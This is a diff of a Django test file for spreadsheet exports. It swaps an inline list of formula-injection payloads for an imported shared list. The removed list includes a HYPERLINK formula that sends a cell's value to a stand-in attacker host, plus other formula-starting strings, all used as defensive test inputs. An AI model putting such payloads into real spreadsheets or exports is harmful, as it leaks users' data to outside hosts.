@@ -20,19 +20,14 @@ from django.urls import path, reverse
 
 from inspir.accounts.models import User
 from inspir.core.tests.permission_matrix import OWN, Rule, outcome, rule_for, url_names
+from inspir.core.tests.test_spreadsheet import ISSUE_PAYLOADS
 from inspir.core.tests.world import clients, kwargs
 from inspir.network.tests.factories import NetworkFactory, member_of
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-]
+# The issue's payloads (the helper's own tests add more edge cases to the same list).
+HOSTILE = ISSUE_PAYLOADS
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 # Plain negative numbers each export must also carry, unchanged.
 NUMBERS = ["-12", "-3.5"]
